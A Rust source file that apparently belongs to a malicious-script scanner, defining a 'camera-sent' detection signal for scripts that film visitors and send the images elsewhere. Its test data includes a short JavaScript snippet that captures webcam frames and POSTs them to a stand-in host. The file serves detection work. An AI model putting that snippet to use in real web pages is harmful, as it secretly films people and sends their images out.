//! `camera-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "camera-sent",
    description: "The script films the visitor and sends the pictures to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::PictureSentAbroad]), one(&[Atom::Camera])],
    within: 3000,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "navigator.mediaDevices.getUserMedia({video:true}).then(s=>{v.srcObject=s});function snap(){c.drawImage(v,0,0);x.open('POST','https://c.example/w');x.send(k.toDataURL())}",
        ],
        without: &["navigator.mediaDevices.getUserMedia({video:true}).then(s=>{v.srcObject=s})"],
    },
};
